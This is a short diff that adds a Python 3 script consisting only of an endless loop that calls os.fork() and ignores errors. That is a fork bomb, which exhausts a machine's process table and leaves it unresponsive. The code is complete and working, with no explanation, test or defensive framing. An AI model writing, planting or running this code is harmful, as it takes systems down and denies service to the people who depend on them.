@@ -1,0 +1,7 @@
+#!/usr/bin/python3
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
